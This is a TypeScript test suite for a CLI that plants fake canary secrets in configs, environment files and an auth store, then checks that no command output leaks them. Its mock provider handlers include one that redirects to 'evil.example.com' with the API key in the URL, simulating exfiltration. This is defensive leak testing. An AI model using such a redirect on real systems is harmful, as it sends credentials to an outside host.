import { join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import { targets } from "../../src/emit/targets/index.js";
import { rules } from "../../src/lint/index.js";
import { checkFormats } from "../../src/report/check/index.js";
import { probeFormats } from "../../src/report/probe/index.js";
import { base64, canary, expectSilence, nasty } from "../support/canary.js";
import {
  makePlace,
  type Place,
  removePlace,
  runCommandLine,
  textOf,
  writeFiles,
} from "../support/command-line.js";
import { type Handler, startServer } from "../support/server.js";

/**
 * No secret comes out, whatever is typed and whatever goes wrong. Every place that can hold a secret
 * holds one that is found again in any output, in the forms that programs turn text into.
 */
const CONFIG = ".altimate-code/altimate-code.json";

test("the sweep finds what it should find", () => {
  const text = nasty("EnvKey");
  const forms = [
    text,
    JSON.stringify(text),
    encodeURIComponent(text),
    base64(text),
    base64(`:${text}`),
    base64(`ab${text}`),
    Buffer.from(text).toString("hex"),
    Buffer.from(text).toString("hex").toUpperCase(),
  ];
  for (const form of forms) {
    expect(() => expectSilence(`<${form}>`, "here")).toThrow("EnvKey");
  }
  expectSilence("cnry", "a word that only looks like one");
});

const env = {
  OPENAI_API_KEY: `sk-${canary("EnvKey")}`,
  TEAM_TOKEN: nasty("EnvHeader"),
  SERVICE_PASSWORD: `${canary("EnvOther")}\nsecond line`,
  HTTPS_PROXY: `http://ann:${canary("Proxy")}@127.0.0.1:9`,
  AWS_ACCESS_KEY_ID: "AKIAEXAMPLE",
  AWS_SECRET_ACCESS_KEY: canary("Aws"),
  NO_PROXY: "127.0.0.1",
};

const STORE = JSON.stringify({
  anthropic: { type: "api", key: `sk-ant-${canary("Stored")}` },
  "amazon-bedrock": { type: "wellknown", key: "TOKEN", token: canary("Stored") },
});

const references = {
  model: "openai/gpt-5.4",
  small_model: "anthropic/claude-haiku-4-5-20251001",
  provider: {
    openai: {
      options: {
        apiKey: "{env:OPENAI_API_KEY}",
        baseURL: "{env:SERVER_URL}",
        headers: { "x-team": "Bearer {env:TEAM_TOKEN}", "x-service": "{env:SERVICE_PASSWORD}" },
      },
    },
    vault: {
      options: { apiKey: "{file:key.txt}", baseURL: "{env:SERVER_URL}/v1" },
      models: { "house-model": {} },
    },
    anthropic: {},
    "amazon-bedrock": { options: { region: "us-east-1" } },
  },
};

const literals = {
  model: "openai/gpt-5.4",
  provider: {
    openai: {
      options: {
        apiKey: `sk-${canary("Literal")}`,
        baseURL: `https://ann:${canary("UserInfo")}@llm.example.com/v1?api_key=${canary("Query")}`,
        headers: { Authorization: `Bearer ${canary("Header")}` },
        sessionToken: canary("Unknown"),
      },
    },
    vault: {
      apiKey: `\${VAULT_KEY:-${canary("Default")}}`,
      baseURL: "http://127.0.0.1:9/v1",
      models: { "house-model": { headers: { "x-key": canary("Header") } } },
    },
  },
  mcp: { db: { environment: { PASSWORD: canary("Mcp") }, headers: { key: canary("Mcp") } } },
};

const written = JSON.stringify(literals, null, 2);

/** Configs by what is wrong with them. */
const CONFIGS: Readonly<Record<string, string>> = {
  "references only": JSON.stringify(references, null, 2),
  "secrets written down": written,
  "a credential in public fields": JSON.stringify({
    model: "openai/{env:OPENAI_API_KEY}",
    small_model: "{env:TEAM_TOKEN}",
    provider: {
      "{env:OPENAI_API_KEY}": {},
      openai: {
        name: "{env:OPENAI_API_KEY}",
        options: {
          baseURL: "https://llm.example.com/{env:OPENAI_API_KEY}",
          timeout: "{env:TEAM_TOKEN}",
        },
      },
      vault: { options: { baseURL: "{file:key.txt}" }, models: { "{env:SERVICE_PASSWORD}": {} } },
    },
  }),
  "secrets of the wrong type": JSON.stringify({
    model: [`sk-${canary("Literal")}`],
    provider: {
      openai: { options: { apiKey: [canary("Literal")], headers: `x: ${canary("Header")}` } },
      anthropic: { options: { apiKey: { key: canary("Literal") }, baseURL: 5 } },
      [`sk-ant-${canary("Literal")}`]: {},
      vault: `sk-${canary("Unknown")}`,
    },
  }),
  "a comma missing": written.replace('",\n', '"\n'),
  "a string not closed": written.replace(`${canary("Literal")}",`, `${canary("Literal")},`),
  "the end missing": written.slice(0, -20),
  "single quotes": written.replaceAll('"', "'"),
  "not JSON at all": `OPENAI_API_KEY=sk-${canary("Literal")}\nexport X=${canary("Unknown")}\n`,
  "a comment with a key": `// sk-ant-api03-${canary("Literal")}\n${JSON.stringify(references)}`,
  "the same key twice": written.replace('"apiKey"', `"apiKey": "${canary("Literal")}", "apiKey"`),
};

const OFFLINE: readonly string[] = [
  ...checkFormats.map((format) => `config check --format ${format}`),
  "config check --fix-dry-run",
  "config check --env-file .env --debug",
  "config check --require-env --fail-on info",
  "config check --write-baseline known.json",
  "config check --format sarif --output report.sarif",
  `config check ${CONFIG}`,
  "config show",
  "config show --origins",
  "config show --origins --format json --env-file .env",
  "config explain model",
  "config explain small_model",
  "config explain provider",
  "config explain provider.openai",
  "config explain provider.openai.options.apiKey",
  "config explain provider.openai.options.baseURL",
  "config explain provider.openai.options.headers",
  "config explain provider.openai.options.headers.x-team",
  "config explain provider.openai.options.headers.Authorization",
  "config explain provider.openai.options.sessionToken",
  "config explain provider.vault.apiKey",
  "config explain provider.vault.baseURL",
  "config explain mcp.db.environment.PASSWORD",
  "config explain openai/gpt-5.4",
  "config explain vault/house-model",
  "config explain anthropic/claude-sonnet-4-6",
  "config explain amazon-bedrock",
  "config init --print",
  ...targets.map(({ name }) => `emit --target ${name}`),
  "emit --defer",
  "emit --plan",
  "emit -o altimate.manifest.json",
  "manifest verify altimate.manifest.json",
  "probe --plan",
  "probe --offline --explain",
  "models",
  "providers",
  "auth list",
  "auth list --format json",
  "trust list",
  "config check --fix",
];

let place: Place | null = null;

afterEach(() => {
  if (place !== null) removePlace(place);
  place = null;
});

function prepare(config: string): Place {
  place = makePlace();
  writeFiles(place.project, {
    [CONFIG]: config,
    ".altimate-code/key.txt": canary("File"),
    ".env": `VAULT_KEY=${canary("EnvFile")}\nTEAM_TOKEN=${canary("EnvFile")}\n`,
  });
  writeFiles(place.home, { ".local/share/altimate-code/auth.json": STORE });
  return place;
}

async function outputOf(place: Place, line: string, variables: Readonly<Record<string, string>>) {
  const { code, stdout, stderr } = await runCommandLine(place, {
    args: line.split(" "),
    env: variables,
  });
  const files = [
    "known.json",
    "report.sarif",
    "altimate.manifest.json",
    "altimate.probe.lock.json",
  ];
  const left = files.map((name) => textOf(join(place.project, name)) ?? "");
  return { code, output: [stdout, stderr, ...left].join("\n") };
}

describe.each(Object.entries(CONFIGS))("%s", (_name, config) => {
  test.each(OFFLINE)("%s", async (line) => {
    const here = prepare(config);
    const { code, output } = await outputOf(here, line, {
      ...env,
      SERVER_URL: "http://127.0.0.1:9",
      ALTIMATE_ALLOW_VARIABLES: "SERVER_URL",
    });
    expectSilence(output, line);
    expect([0, 1, 2, 3]).toContain(code);
  });
});

test.each(rules.map(({ code }) => code))("config explain %s", async (code) => {
  const { output } = await outputOf(prepare(written), `config explain ${code}`, env);
  expectSilence(output, code);
});

/** What a provider does with a request that holds secrets. */
const ANSWERS: Readonly<Record<string, Handler>> = {
  "an error that repeats the key": ({ headers }, response) => {
    const message = `Incorrect API key provided: ${headers.authorization ?? headers["x-api-key"]}`;
    response.writeHead(401, { "content-type": "application/json" });
    response.end(JSON.stringify({ error: { message, headers } }));
  },
  "a page that repeats everything": ({ headers, path }, response) => {
    response.writeHead(500, {
      "content-type": "text/html",
      "x-request-id": `${headers["x-team"]}`,
    });
    response.end(`<h1>${path}</h1><pre>${JSON.stringify(headers)}</pre>`);
  },
  "a redirect with the key in it": ({ headers }, response) => {
    const key = encodeURIComponent(headers.authorization ?? "none");
    response.writeHead(302, { location: `https://evil.example.com/?key=${key}` });
    response.end();
  },
  "a list that names the key": ({ headers }, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify({ data: [{ id: headers.authorization }], error: headers }));
  },
  "a line that goes dead": (_request, response) => {
    response.destroy();
  },
  "an event stream that ends in an error": ({ headers }, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.end(`data: {"error":{"message":"bad key ${headers.authorization}"}}\n\n`);
  },
};

describe.each(Object.entries(ANSWERS))("a provider answers with %s", (_name, answer) => {
  test.each([
    ...probeFormats.map((format) => `probe --format ${format} --timeout 5s openai vault`),
    "probe --deep --debug openai vault",
    "probe --lock altimate.probe.lock.json openai",
    "run hello",
    "run --json --debug hello",
    "run -m vault/house-model hello",
  ])("%s", async (line) => {
    const here = prepare(JSON.stringify(references));
    const server = await startServer(answer);
    const variables = {
      ...env,
      SERVICE_PASSWORD: canary("EnvOther"),
      SERVER_URL: server.url,
      ALTIMATE_ALLOW_VARIABLES: "SERVER_URL",
    };
    const { code, output } = await outputOf(here, line, variables);
    expectSilence(output, line);
    expect([0, 1, 3]).toContain(code);
    expect(server.received).not.toEqual([]);
  });
});
